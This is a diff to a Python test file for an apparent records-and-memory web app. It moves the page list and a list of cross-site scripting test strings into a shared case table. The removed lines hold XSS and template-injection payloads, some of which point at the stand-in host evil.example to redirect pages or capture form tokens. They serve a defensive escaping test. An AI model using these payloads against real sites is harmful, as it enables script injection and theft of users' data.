@@ -30,31 +30,16 @@ from tests.browse.conftest import CITY, DAY, MAYA
 from tests.memory.shelves import Shelf
 from tests.memory.telling import USER, opened, talk, well
 from tests.narrowing import not_none
+from tests.tables import cases
+
+CASES = cases(__file__)
 
 if TYPE_CHECKING:
     from pydantic import BaseModel
 
 HOST: Final = "127.0.0.1:8123"
 TOKEN: Final = "only-once"
-PAGES: Final = (
-    "/",
-    "/records",
-    "/records?subject=user:maya",
-    "/names?of=subjects",
-    "/names?of=keywords",
-    "/names?of=categories",
-    "/search",
-    "/search?q=Which+city",
-    "/record/{id}",
-    "/subject?name=user:maya",
-    "/inbox",
-    "/agent",
-    "/agent?question=Which+city&user=maya",
-    "/forget",
-    "/forget?keyword=city",
-    "/changes",
-    "/export",
-)
+PAGES: Final = CASES["pages"]
 """Every page that is read."""
 FORMS: Final = (
     "/record/{id}/update",
@@ -364,26 +349,7 @@ async def test_an_export_is_a_download_of_everything_visible(client: httpx.Async
 
 # -- Escaping -----------------------------------------------------------------------------------------------------
 
-XSS: Final = (
-    "<script>alert(1)</script>",
-    "</textarea><script>alert(1)</script>",
-    "</title><svg onload=alert(1)>",
-    '"><img src=x onerror=alert(1)>',
-    "' onmouseover='alert(1)",
-    "javascript:alert(1)",
-    "<a href='javascript:alert(1)'>x</a>",
-    "{{ 7*7 }}{% include '/etc/passwd' %}",
-    "<style>*{display:none}</style>",
-    "<base href=//evil.example/>",
-    "<meta http-equiv=refresh content=0;url=//evil.example>",
-    "<form action=//evil.example><input name=form_token>",
-    "<div hx-get=//evil.example hx-trigger=load>",
-    "<hx-partial hx-target='body'>x</hx-partial>",
-    "-->]]><script>alert(1)</script><!--",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "<scr\u0000ipt>\u202ealert(1)\u200b",
-    "\\u003cscript\\u003e ${alert(1)} `x`",
-)
+XSS: Final = CASES["texts that run in a page"]
 """Texts that would do something if any place in a page showed them unescaped."""
 
 
